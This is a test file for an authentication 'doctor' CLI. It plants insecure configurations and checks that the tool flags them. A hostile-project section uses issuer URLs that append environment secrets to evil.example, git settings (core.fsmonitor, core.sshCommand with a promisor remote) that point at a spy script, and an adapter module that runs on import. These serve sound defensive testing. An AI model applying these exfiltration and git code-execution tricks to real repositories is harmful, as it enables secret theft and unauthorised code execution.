import { execFileSync } from 'node:child_process'
import { chmodSync, rmSync, symlinkSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { World } from '../src/lib/environment.ts'
import { contents, createProject, type Files, NOW, SECRET } from './command-line.ts'

const ENV = {
  AUTH_SECRET: SECRET,
  AUTH_URL: 'https://example.com',
  AUTH_GOOGLE_ID: '1234.apps.googleusercontent.com',
  AUTH_GOOGLE_SECRET: 'GOCSPX-0aB1cD2eF3',
}

const AUTH = `import SiteAuth from '@siteauth/next'
import Google from '@siteauth/next/providers/google'

export const { handlers, auth } = SiteAuth({ providers: [Google] })
`

/** A project that nothing is wrong with. */
const SOUND: Files = {
  'package.json': JSON.stringify({
    dependencies: { '@siteauth/core': '^0.41.3', '@siteauth/next': '^0.41.3', next: '16.4.3' },
  }),
  'auth.ts': AUTH,
  'app/api/auth/[...siteauth]/route.ts': `import { handlers } from '../../../../auth'
export const { GET, POST } = handlers`,
  '.env.local': envText(ENV),
}

/** A proxy that lets only users pass, and a sign-in page of the application's own. */
const GUARDED: Files = {
  'auth.ts': `import SiteAuth from '@siteauth/next'
import Google from '@siteauth/next/providers/google'

export const { handlers, auth } = SiteAuth({
  providers: [Google],
  pages: { signIn: '/login' },
  callbacks: { authorized: ({ auth }) => auth !== null },
})
`,
  'proxy.ts': `export { auth as default } from './auth'`,
}

/** What Google says of itself. */
const GOOGLE = {
  issuer: 'https://accounts.google.com',
  authorization_endpoint: 'https://accounts.google.com/o/oauth2/v2/auth',
  token_endpoint: 'https://oauth2.googleapis.com/token',
  jwks_uri: 'https://www.googleapis.com/oauth2/v3/certs',
  response_types_supported: ['code', 'token'],
  code_challenge_methods_supported: ['plain', 'S256'],
}

function envText(variables: Readonly<Record<string, string>>): string {
  return Object.entries(variables)
    .map(([name, value]) => `${name}=${value}\n`)
    .join('')
}

/** A provider that answers with this document. */
function answering(document: unknown, init: ResponseInit = {}): World['fetch'] {
  return async () =>
    Response.json(document, { headers: { date: new Date(NOW).toUTCString() }, ...init })
}

/** Something that is wrong with a project. */
interface Plant {
  readonly files?: Files
  /** Variables that are other than in {@link ENV}. */
  readonly env?: Readonly<Record<string, string>>
  readonly fetch?: World['fetch']
  /** As on a developer's machine. */
  readonly inDevelopment?: true
  /** Whether the database may be opened. */
  readonly opensStore?: true
  readonly prepare?: (folder: string) => void
}

async function examine({ files = {}, env = {}, fetch, inDevelopment, opensStore, prepare }: Plant) {
  const project = createProject({
    ...SOUND,
    '.env.local': envText({ ...ENV, ...env }),
    ...files,
  })
  prepare?.(project.folder)
  const args = [
    'doctor',
    '--json',
    ...(inDevelopment ? [] : ['--production']),
    ...(opensStore ? ['--store'] : []),
  ]
  const { code, output } = await project.runIn({ fetch: fetch ?? answering(GOOGLE) }, ...args)
  const { findings } = JSON.parse(output) as {
    findings: readonly { code: string; severity: string; what: string; cure: string }[]
  }
  return { code, findings }
}

/** A configuration with these options, beside the providers. */
function options(text: string): Files {
  return { 'auth.ts': AUTH.replace('[Google]', `[Google], ${text}`) }
}

/** A configuration whose provider is called with these options. */
function provider(text: string): Files {
  return { 'auth.ts': AUTH.replace('[Google]', `[Google(${text})]`) }
}

/** The manifest, with other versions and packages. */
function dependencies(changed: Readonly<Record<string, string>>): Files {
  const all = {
    '@siteauth/core': '^0.41.3',
    '@siteauth/next': '^0.41.3',
    next: '16.4.3',
    ...changed,
  }
  return { 'package.json': JSON.stringify({ dependencies: all }) }
}

/** What an installed package has to show. */
function installed(name: string, version: string, below = ''): Files {
  return { [`${below}node_modules/${name}/package.json`]: JSON.stringify({ name, version }) }
}

const EXPRESS: Files = {
  'package.json': JSON.stringify({
    dependencies: { '@siteauth/express': '^0.41.3', express: '5' },
  }),
  'auth.ts': '',
  'app/api/auth/[...siteauth]/route.ts': '',
  'server.ts': `import Google from '@siteauth/core/providers/google'
import { ServerAuth } from '@siteauth/express'
app.use('/auth', ServerAuth({ providers: [Google], trustHost: ['example.com'] }))`,
}

const PLANTS: Readonly<Record<string, Readonly<Record<string, Plant>>>> = {
  'the kit for tests': {
    'test-kit-in-code': {
      files: {
        'auth.ts': `import { createFakeProvider } from '@siteauth/testing/provider'\n${AUTH}`,
      },
    },
    'local-provider': { env: { AUTH_GOOGLE_ISSUER: 'http://127.0.0.1:4000' } },
  },
  'the environment': {
    MissingSecret: { env: { AUTH_SECRET: '' } },
    'generated-secret': { env: { AUTH_SECRET: '' }, inDevelopment: true },
    'short-secret': { env: { AUTH_SECRET: 'q7R2mZx9Vt4L' } },
    'placeholder-secret': { env: { AUTH_SECRET: 'changeme-changeme-changeme-changeme' } },
    'weak-secret': { env: { AUTH_SECRET: 'our-company-secret-of-the-year-2024' } },
    'two-secrets': { env: { NEXTAUTH_SECRET: `${SECRET}1` } },
    'public-secret': { env: { NEXT_PUBLIC_AUTH_SECRET: 'x' } },
    'secret-in-code': { files: options(`secret: '${SECRET}'`) },
    'committed-secret': {
      prepare: folder => {
        execFileSync('git', ['init', '--quiet'], { cwd: folder })
        execFileSync('git', ['add', '.env.local'], { cwd: folder })
      },
    },
    'unignored-secret': {
      prepare: folder => void execFileSync('git', ['init', '--quiet'], { cwd: folder }),
    },
  },
  'the address': {
    InvalidConfiguration: { env: { AUTH_URL: 'example.com' } },
    'insecure-url': { env: { AUTH_URL: 'http://example.com' } },
    'local-url': { env: { AUTH_URL: 'http://localhost:3000' } },
    UntrustedHost: { env: { AUTH_URL: '' } },
    'any-host-trusted': { env: { AUTH_URL: '', AUTH_TRUST_HOST: 'true' } },
    'env-url-basepath-mismatch': {
      env: { AUTH_URL: 'https://example.com/auth' },
      files: options(`basePath: '/api/auth'`),
    },
    'start-without-address': {
      files: {
        'package.json': JSON.stringify({
          ...JSON.parse(String(SOUND['package.json'])),
          scripts: { start: 'node server.js' },
        }),
      },
      env: { AUTH_URL: '' },
    },
    'two-urls': { env: { NEXTAUTH_URL: 'https://old.example.com' } },
    'untrusted-proxy': { files: EXPRESS, env: { AUTH_URL: '' } },
  },
  providers: {
    'missing-client-id': { env: { AUTH_GOOGLE_ID: '' } },
    'missing-client-secret': { env: { AUTH_GOOGLE_SECRET: '' } },
    'placeholder-credentials': { env: { AUTH_GOOGLE_ID: 'from-google' } },
    InvalidEndpoints: {
      files: { 'auth.ts': AUTH.replaceAll('Google', 'Keycloak').replace('google', 'keycloak') },
      env: { AUTH_KEYCLOAK_ID: 'site', AUTH_KEYCLOAK_SECRET: 'a1b2c3' },
    },
    'unknown-provider': {
      files: { 'auth.ts': AUTH.replace('providers/google', 'providers/gogle') },
    },
    'repeated-provider-id': { files: { 'auth.ts': AUTH.replace('[Google]', '[Google, Google]') } },
    'ended-provider': {
      files: { 'auth.ts': AUTH.replaceAll('Google', 'AzureAD').replace('google', 'azure-ad') },
      env: { AUTH_AZURE_AD_ID: 'site', AUTH_AZURE_AD_SECRET: 'a1b2c3' },
      fetch: answering({ ...GOOGLE, issuer: 'https://login.microsoftonline.com/{tenantid}/v2.0' }),
    },
    'redirect-uri': {
      files: provider(
        `{ authorization: { params: { redirect_uri: 'https://example.com/back' } } }`,
      ),
    },
    'provider-unreachable': { fetch: () => Promise.reject(new Error('getaddrinfo ENOTFOUND')) },
    'no-discovery': { fetch: answering({}, { status: 404 }) },
    'issuer-mismatch': {
      fetch: answering({ ...GOOGLE, issuer: 'https://accounts.google.com/other' }),
    },
    clock: {
      fetch: answering(GOOGLE, { headers: { date: new Date(NOW + 90_000).toUTCString() } }),
    },
  },
  'the points of RFC 9700': {
    'no-checks': { files: provider(`{ checks: ['none'] }`) },
    'no-pkce': { files: provider(`{ checks: ['state'] }`) },
    'implicit-grant': {
      files: provider(`{ authorization: { params: { response_type: 'token' } } }`),
    },
    'plain-http-provider': { files: provider(`{ issuer: 'http://id.example.com' }`) },
    'plain-http-endpoint': {
      fetch: answering({ ...GOOGLE, token_endpoint: 'http://id.example.com/token' }),
    },
    'provider-without-pkce': {
      fetch: answering({ ...GOOGLE, code_challenge_methods_supported: ['plain'] }),
    },
    'provider-without-code': {
      fetch: answering({ ...GOOGLE, response_types_supported: ['token'] }),
    },
    'linking-by-email': { files: provider('{ allowDangerousEmailAccountLinking: true }') },
  },
  cookies: {
    InvalidConfiguration: {
      files: options(
        `cookies: { sessionToken: { name: '__Host-session', options: { domain: 'example.com' } } }`,
      ),
    },
    'readable-session-cookie': {
      files: options(`cookies: { sessionToken: { options: { httpOnly: false } } }`),
    },
    'cross-site-session-cookie': {
      files: options(`cookies: { sessionToken: { options: { sameSite: 'none' } } }`),
    },
    'insecure-cookies': { files: options('useSecureCookies: false') },
    'csrf-disabled': {
      files: {
        'auth.ts': `import { skipCSRFCheck } from '@siteauth/core'\n${AUTH.replace('[Google]', '[Google], skipCSRFCheck')}`,
      },
    },
    'debug-enabled': { files: options('debug: true') },
  },
  packages: {
    'mismatched-packages': {
      files: { ...installed('@siteauth/core', '0.41.3'), ...installed('@siteauth/next', '0.42.0') },
    },
    'duplicate-core': {
      files: {
        ...installed('@siteauth/core', '0.41.3'),
        ...installed('@siteauth/next', '0.41.3'),
        ...installed('@siteauth/core', '0.41.2', 'node_modules/@siteauth/next/'),
      },
    },
    'left-over-authjs': { files: dependencies({ 'next-auth': '5.0.0-beta.32' }) },
    'old-next': { files: dependencies({ next: '15.2.2' }) },
    'missing-package': {
      files: {
        'auth.ts': `import { MemoryAdapter } from '@siteauth/adapters/redis'
import Nodemailer from '@siteauth/next/providers/nodemailer'
${AUTH.replace('[Google]', `[Google, Nodemailer({ server: 'smtp://localhost', from: 'a@example.com' })], adapter: MemoryAdapter()`)}`,
      },
    },
  },
  files: {
    'no-configuration': { files: { 'auth.ts': '', 'app/api/auth/[...siteauth]/route.ts': '' } },
    'no-route': { files: { 'app/api/auth/[...siteauth]/route.ts': '' }, prepare: removeRoute },
    'route-elsewhere': {
      files: { 'app/auth/[...siteauth]/route.ts': `export const { GET, POST } = handlers` },
      prepare: removeRoute,
    },
    'proxy-and-middleware': { files: { 'proxy.ts': '', 'middleware.ts': '' } },
    'destructured-proxy': {
      files: {
        'proxy.ts': `import SiteAuth from '@siteauth/next'
export const { auth: proxy } = SiteAuth({ providers: [] })`,
      },
    },
    'rsc-suffix': { files: { ...GUARDED, 'app/(shop)/[slug]/page.tsx': '' } },
    'matcher-without-locale': {
      files: {
        ...GUARDED,
        'proxy.ts': `export { auth as default } from './auth'
export const config = { matcher: ['/((?!_next/static/|_next/image$).*)'] }`,
        'next.config.ts': `export default { i18n: { locales: ['en', 'fr'], defaultLocale: 'en' } }`,
      },
    },
    'default-language': {
      files: {
        ...GUARDED,
        'pages/[...rest].tsx': '',
        'next.config.ts': `export default { i18n: { locales: ['en', 'fr'], defaultLocale: 'en' } }`,
        'proxy.ts': `export { auth as default } from './auth'
export const config = { matcher: [{ source: '/(.*)', locale: false }] }`,
      },
    },
    'unmatched-path': {
      files: {
        ...GUARDED,
        'proxy.ts': `export { auth as default } from './auth'
export const config = { matcher: ['/((?!_next/|favicon.ico).*)'] }`,
        'app/[user]/[page]/page.tsx': '',
      },
    },
    'misplaced-proxy': {
      files: { 'src/app/page.tsx': '', 'proxy.ts': `export { auth as default } from './auth'` },
    },
    'linked-file': {
      prepare: folder => symlinkSync(tmpdir(), join(folder, '.env.production.local')),
    },
    'syntax-error': { files: { 'proxy.ts': 'export default {' } },
    'endpoints-not-mounted': {
      files: {
        ...EXPRESS,
        'server.ts': `import Google from '@siteauth/core/providers/google'
import { SiteAuth } from '@siteauth/express'
const auth = SiteAuth({ providers: [Google], trustHost: ['example.com'] })
app.get('/account', auth.requireSession())`,
      },
    },
  },
  'the store': {
    MissingAdapter: { files: options(`session: { strategy: 'database' }`) },
    'memory-store': {
      files: {
        'auth.ts': `import { MemoryAdapter } from '@siteauth/adapters/memory'
${AUTH.replace('[Google]', '[Google], adapter: MemoryAdapter()')}`,
      },
    },
    'prisma-schema': {
      files: {
        'auth.ts': `import { PrismaAdapter } from '@auth/prisma-adapter'
${AUTH.replace('[Google]', '[Google], adapter: PrismaAdapter(prisma)')}`,
        'prisma/schema.prisma': 'model User {\n  id String @id\n}\n',
      },
    },
    'store-unreachable': {
      opensStore: true,
      files: {
        ...dependencies({ pg: '8' }),
        'auth.ts': `import { PostgresAdapter } from '@siteauth/adapters/postgres'
${AUTH.replace('[Google]', `[Google], adapter: PostgresAdapter({ url: process.env.DATABASE_URL })`)}`,
      },
      env: { DATABASE_URL: 'postgres://nobody@127.0.0.1:1/none' },
    },
  },
}

function removeRoute(folder: string): void {
  execFileSync('rm', ['-r', `${folder}/app/api`])
}

describe('siteauth doctor', () => {
  it.each([
    ['in production', ['--production']],
    ['in development', []],
  ])('says nothing of a sound project %s', async (_, args) => {
    const project = createProject(SOUND)
    const { code, output } = await project.runIn({ fetch: answering(GOOGLE) }, 'doctor', ...args)
    expect(output).toBe('Nothing is wrong.\n')
    expect(code).toBe(0)
  })

  it('says nothing of a sound Express application', async () => {
    const { findings } = await examine({ files: EXPRESS })
    expect(findings).toEqual([])
  })

  it('says nothing of an Express application with an instance, in a file of its own', async () => {
    const { findings } = await examine({
      files: {
        ...EXPRESS,
        'auth.ts': `import Google from '@siteauth/core/providers/google'
import { SiteAuth } from '@siteauth/express'
export const auth = SiteAuth({ providers: [Google], trustHost: ['example.com'] })`,
        'server.ts': `import { auth } from './auth.js'
app.use('/auth', auth.handler)
app.get('/account', auth.requireSession())`,
      },
    })
    expect(findings).toEqual([])
  })

  it('says nothing of a configuration that is split for the proxy', async () => {
    const { findings } = await examine({
      files: {
        'auth.config.ts': `import Google from '@siteauth/next/providers/google'
export default { providers: [Google] } satisfies AuthConfig`,
        'auth.ts': `import SiteAuth from '@siteauth/next'
import config from './auth.config'
export const { handlers, auth } = SiteAuth({ ...config, secret: readSecret() })`,
        'proxy.ts': `import SiteAuth from '@siteauth/next'
import config from './auth.config'
export default SiteAuth(config).auth`,
      },
    })
    expect(findings).toEqual([])
  })

  it.each<[string, Plant]>([
    [
      'tests with secrets of their own',
      {
        files: {
          'auth.test.ts': `import { createAuth } from '@siteauth/core'
import { createFakeProvider } from '@siteauth/testing/provider'
createAuth({ secret: 'short', trustHost: true, providers: [], skipCSRFCheck })`,
          'e2e/setup.ts': `import { signInAs } from '@siteauth/testing'`,
        },
      },
    ],
    [
      'public keys in a file that is committed',
      {
        files: { '.env': 'NEXT_PUBLIC_STRIPE_KEY=pk_live_1\n', '.gitignore': '.env.local\n' },
        prepare: cwd => {
          execFileSync('git', ['init', '--quiet'], { cwd })
          execFileSync('git', ['add', '.env'], { cwd })
        },
      },
    ],
    [
      'a parameter with a hyphen',
      {
        files: {
          'app/api/auth/[...siteauth]/route.ts': '',
          'app/api/auth/[...site-auth]/route.ts': `export { GET } from 'x'`,
        },
      },
    ],
    [
      'a configuration that is made per request',
      {
        env: { AUTH_SECRET: '' },
        files: {
          'auth.ts': `import SiteAuth from '@siteauth/next'
export const { handlers } = SiteAuth(async () => {
  const secret = await readVault()
  return { providers: [], secret }
})`,
        },
      },
    ],
    [
      'a configuration that is partly in a package',
      {
        env: { AUTH_SECRET: '' },
        files: {
          'auth.ts': `import SiteAuth from '@siteauth/next'
import { base } from '@acme/auth'
export const { handlers } = SiteAuth({ ...base, providers: [] })`,
        },
      },
    ],
    [
      'another application in a folder of its own',
      {
        files: {
          'examples/old/package.json': '{"name":"old","dependencies":{"next":"13"}}',
          'examples/old/auth.ts': `import SiteAuth from '@siteauth/next'
export const { auth } = SiteAuth({ providers: [], secret: 'short', debug: true })`,
        },
      },
    ],
    [
      'a sign-in page beside routes that no ending of its address leads to',
      {
        files: {
          ...GUARDED,
          'app/shop/[slug]/page.tsx': '',
          'app/login/page.tsx': '',
          'app/[slug]/settings/page.tsx': '',
        },
      },
    ],
    [
      'a proxy in front of which addresses with the ending .rsc are redirected',
      {
        files: {
          ...GUARDED,
          'app/[slug]/page.tsx': '',
          'next.config.ts': String.raw`export default {
  redirects: async () => [{ source: '/:path(.*)\\.rsc', destination: '/:path', permanent: false }],
}`,
        },
      },
    ],
    [
      'a matcher without Next’s files, where nothing else can be at their addresses',
      {
        files: {
          ...GUARDED,
          'proxy.ts': `export { auth as default } from './auth'
export const config = { matcher: ['/((?!_next/static/|_next/image$).*)'] }`,
          'app/[[...path]]/page.tsx': '',
          'next.config.ts': String.raw`export default {
  redirects: async () => [{ source: '/:path(.*)\\.rsc', destination: '/:path', permanent: false }],
  rewrites: async () => ({ afterFiles: [{ source: '/_next/static/:path*', destination: '/_not-found' }] }),
}`,
        },
      },
    ],
    [
      'further exports of a proxy',
      {
        files: {
          'proxy.ts': `import { auth } from './auth'
export const { a } = { a: 1 }
export default auth`,
        },
      },
    ],
    [
      'files of Express that are called like those of Next',
      {
        files: {
          ...EXPRESS,
          'proxy.js': 'export const { auth } = a',
          'middleware.js': 'export const { b } = a',
        },
      },
    ],
  ])('says nothing of %s', async (_, plant) => {
    expect((await examine(plant)).findings).toEqual([])
  })

  it('shows nothing that a provider says to a terminal', async () => {
    const project = createProject(SOUND)
    const fetch = answering({ ...GOOGLE, issuer: 'https://x/\u001b[2J\u009b2J' })
    const { output } = await project.runIn({ fetch }, 'doctor')
    expect(output).toContain('issuer-mismatch')
    expect(output).not.toContain('\u001b')
    expect(output).not.toContain('\u009b')
  })

  it.each<[string, World['fetch']]>([
    ['a page', async () => new Response('<html>', { headers: { 'content-type': 'text/html' } })],
    ['a list', answering([])],
    ['nothing', async () => new Response(null, { status: 204 })],
    [
      'a document that never ends',
      async () =>
        new Response(
          new ReadableStream({ start: body => body.error(new DOMException('', 'TimeoutError')) }),
        ),
    ],
  ])('takes %s for no description', async (_, fetch) => {
    const { findings } = await examine({ fetch })
    expect(findings.map(({ code }) => code)).toEqual(['no-discovery'])
  })

  for (const [group, plants] of Object.entries(PLANTS)) {
    describe(`about ${group}`, () => {
      it.each(Object.entries(plants))('finds %s, and says what to do', async (code, plant) => {
        const { findings } = await examine(plant)
        const found = findings.filter(each => each.code === code)
        expect(findings.map(each => each.code)).toContain(code)
        expect(found[0]?.cure).toMatch(/\w+.*\w/)
        expect(JSON.stringify(findings)).not.toContain(SECRET)
      })
    })
  }

  it('finds nothing but the one thing that is wrong', async () => {
    const { findings } = await examine({ env: { AUTH_GOOGLE_SECRET: '' } })
    expect(findings).toMatchObject([{ code: 'missing-client-secret', severity: 'error' }])
  })

  it('exits with 1 if there is an error, and 3 if there are only warnings', async () => {
    expect((await examine({ env: { AUTH_SECRET: '' } })).code).toBe(1)
    expect((await examine({ files: options('debug: true') })).code).toBe(3)
  })

  it('says what each finding is, where, and what to do', async () => {
    const project = createProject({ ...SOUND, ...options('debug: true') })
    const { output } = await project.run('doctor', '--production', '--offline')
    expect(output).toMatch(
      /^warning debug-enabled auth\.ts:4\n {2}`debug` is on.*\n {2}→ Write debug/,
    )
    expect(output).toMatch(/\n0 errors, 1 warning\.\n$/)
  })

  it('names the callback URLs to register', async () => {
    const project = createProject(SOUND)
    const { output } = await project.run('doctor', '--json', '--offline')
    expect(JSON.parse(output)).toMatchObject({
      callbackUrls: { google: 'https://example.com/api/auth/callback/google' },
    })
  })

  it('runs none of the project’s code', async () => {
    const { findings } = await examine({
      files: { 'auth.ts': `${AUTH}\nthrow new Error('this must not run')` },
    })
    expect(findings).toEqual([])
  })

  describe('in a project that may be hostile', () => {
    /** Where requests go to if a project has these files, on a machine with these variables. */
    async function requested(files: Files, env: World['env'], ...args: readonly string[]) {
      const project = createProject({ ...SOUND, ...files })
      const urls: string[] = []
      const fetch: World['fetch'] = async input => {
        urls.push(String(input))
        return Response.json(GOOGLE)
      }
      const { code, output } = await project.runIn({ fetch, env }, 'doctor', '--json', ...args)
      return { urls, code, output }
    }

    const ELSEWHERE = 'https://evil.example'
    const discovery = (origin: string) => `${origin}/.well-known/openid-configuration`

    it.each([
      ['a template', `\`https://evil.example/\${process.env.CLOUD}\``],
      ['a sum', `'https://evil.example/' + process.env.CLOUD`],
      ['a name that is computed', `'https://evil.example/' + process.env['CL' + 'OUD']`],
      ['another module', `'https://evil.example/' + cloud`],
      ['a choice', `process.env.CLOUD ? 'https://evil.example/1' : 'https://evil.example/0'`],
      ['a default', `process.env.CLOUD ?? 'https://evil.example/0'`],
    ])('sends no variable of the machine in a URL made with %s', async (_, issuer) => {
      const files = {
        'cloud.ts': 'export const cloud = process.env.CLOUD\n',
        'auth.ts': `import { cloud } from './cloud'\n${AUTH.replace('[Google]', `[Google({ issuer: ${issuer} })]`)}`,
      }
      const known = await requested(files, { CLOUD: 'cloud-key' })
      const unknown = await requested(files, {})
      expect(known.urls).toEqual([])
      // Nor can a server tell whether it is set.
      expect(unknown.urls).toEqual([])
    })

    it('sends none that a file of the project names without a value', async () => {
      const { urls } = await requested(
        {
          ...provider(`{ issuer: 'https://evil.example/' + process.env.CLOUD }`),
          '.env': 'CLOUD=\n',
        },
        { CLOUD: 'cloud-key' },
      )
      expect(urls.join()).not.toContain('cloud-key')
    })

    it('sends none that a file of the project has another value for', async () => {
      const { urls } = await requested(
        {
          ...provider(`{ issuer: 'https://evil.example/' + process.env.CLOUD_REGION }`),
          '.env': 'CLOUD_REGION=a\n',
        },
        { CLOUD_REGION: 'cloud-key' },
      )
      expect(urls).toEqual([discovery(`${ELSEWHERE}/a`)])
    })

    it('sends none in the URL of a provider without discovery', async () => {
      const described = `{ id: 'x', type: 'oauth', clientId: 'a', clientSecret: 'b', authorization: 'https://evil.example/a',
  token: \`https://\${process.env.CLOUD}.evil.example/token\`, userinfo: 'https://evil.example/u' }`
      const { urls } = await requested(
        { 'auth.ts': AUTH.replace('[Google]', `[${described}]`) },
        { CLOUD: 'cloud-key' },
      )
      expect(urls).toEqual([])
    })

    it.each([
      ['AUTH_SECRET', SECRET],
      ['AUTH_GOOGLE_SECRET', 'GOCSPX-0aB1cD2eF3'],
      ['AUTH_EMAIL_SERVER', 'smtp://me:hunter2@mail.example.com'],
      ['STRIPE_API_KEY', 'rk_live_1'],
      ['DATABASE_URL', 'mysql://localhost/app'],
      ['GITHUB_PAT', 'ghp_0aB1cD2eF3'],
      ['STRIPE_SK', 'sk_live_1'],
      ['AUTH_PEPPER', 'a9f3e1'],
      ['AUTH_HEADER', 'Bearer a9f3e1'],
      ['SLACK_WEBHOOK_URL', 'https://hooks.slack.com/services/T0/B0/a9f3e1'],
      ['SENTRY_URL', 'https://a9f3e1@sentry.example/1'],
      ['SEARCH_URL', 'https://search.example/?apikey=a9f3e1'],
    ])('sends no secret of the project itself: %s', async (name, value) => {
      const { urls } = await requested(
        {
          ...provider(`{ issuer: 'https://evil.example/' + process.env.${name} }`),
          '.env.local': envText({ ...ENV, [name]: value }),
        },
        { [name]: value },
      )
      expect(urls).toEqual([])
    })

    it('asks a provider whose address is in a file of the project, or in a variable of SiteAuth', async () => {
      const issuer = `'https://' + process.env.REALM + '.example/' + process.env.AUTH_TENANT`
      const { urls } = await requested(
        { ...provider(`{ issuer: ${issuer} }`), '.env': 'REALM=id\n' },
        { AUTH_TENANT: 't1' },
      )
      expect(urls).toEqual([discovery('https://id.example/t1')])
    })

    it('takes a variable of the machine to be right, without looking at it', async () => {
      const { output } = await requested(options('secret: process.env.VAULT_SECRET'), {
        VAULT_SECRET: 'short',
      })
      expect(JSON.parse(output)).toMatchObject({ findings: [] })
    })

    it('starts no program that the settings of its Git repository name', async () => {
      const project = createProject({ ...SOUND, 'spy.sh': '#!/bin/sh\ntouch ran\n' })
      chmodSync(`${project.folder}/spy.sh`, 0o755)
      const inProject = { cwd: project.folder }
      execFileSync('git', ['init', '--quiet'], inProject)
      execFileSync('git', ['config', 'core.fsmonitor', './spy.sh'], inProject)
      await project.runIn({ fetch: answering(GOOGLE) }, 'doctor')
      expect(contents(project)).not.toHaveProperty('ran')
    })

    it('starts no program to fetch what its Git repository lacks', async () => {
      const project = createProject({
        ...SOUND,
        'a/x.txt': '',
        'spy.sh': '#!/bin/sh\ntouch "$(dirname "$0")/ran"\n',
      })
      chmodSync(`${project.folder}/spy.sh`, 0o755)
      const git = (...args: readonly string[]) =>
        execFileSync('git', args, { cwd: project.folder, encoding: 'utf8' }).trim()
      git('init', '--quiet')
      git('add', 'a')
      git('-c', 'user.name=a', '-c', 'user.email=a@b.example', 'commit', '--quiet', '-m', 'a')
      // The index has a folder as a whole, whose contents have to be read.
      git('sparse-checkout', 'set', '--cone', '--sparse-index', 'b')
      const tree = git('rev-parse', 'HEAD:a')
      rmSync(`${project.folder}/.git/objects/${tree.slice(0, 2)}/${tree.slice(2)}`)
      for (const [name, value] of [
        ['core.repositoryFormatVersion', '1'],
        ['extensions.partialClone', 'origin'],
        ['remote.origin.url', 'ssh://evil.example/x'],
        ['remote.origin.promisor', 'true'],
        ['protocol.ssh.allow', 'always'],
        ['core.sshCommand', `${project.folder}/spy.sh`],
      ] as const) {
        git('config', name, value)
      }
      await project.runIn({ fetch: answering(GOOGLE) }, 'doctor')
      expect(contents(project)).not.toHaveProperty('ran')
    })

    const STORE: Files = {
      'auth.ts': `import { PostgresAdapter } from '@siteauth/adapters/postgres'
${AUTH.replace('[Google]', `[Google], adapter: PostgresAdapter({ url: process.env.DATABASE_URL })`)}`,
      'node_modules/@siteauth/adapters/package.json': JSON.stringify({
        name: '@siteauth/adapters',
        type: 'module',
        exports: { './postgres': './postgres.js' },
      }),
      'node_modules/@siteauth/adapters/postgres.js': `import { writeFileSync } from 'node:fs'
writeFileSync(new URL('../../../ran', import.meta.url), process.env.HOME ?? '')
export const PostgresAdapter = ({ url }) => ({
  migrations: { plan: async () => [{ description: \`create table at \${url}\`, sql: '' }] },
  close: async () => {},
})`,
    }
    const DATABASE = { DATABASE_URL: 'postgres://db.example/app' }

    it('opens no store, because that runs code of the project', async () => {
      const project = createProject({ ...SOUND, ...STORE, '.env': envText(DATABASE) })
      await project.runIn({ fetch: answering(GOOGLE), env: DATABASE }, 'doctor')
      expect(contents(project)).not.toHaveProperty('ran')
    })

    it('opens the store that a variable of the machine names, if it is told to', async () => {
      const project = createProject({ ...SOUND, ...STORE })
      const { output } = await project.runIn(
        { fetch: answering(GOOGLE), env: DATABASE },
        'doctor',
        '--store',
      )
      expect(contents(project)).toHaveProperty('ran')
      expect(output).toContain('create table at postgres://db.example/app')
    })

    it('opens no store if it is to send nothing', async () => {
      const project = createProject({ ...SOUND, ...STORE, '.env': envText(DATABASE) })
      await project.run('doctor', '--store', '--offline')
      expect(contents(project)).not.toHaveProperty('ran')
    })
  })
})
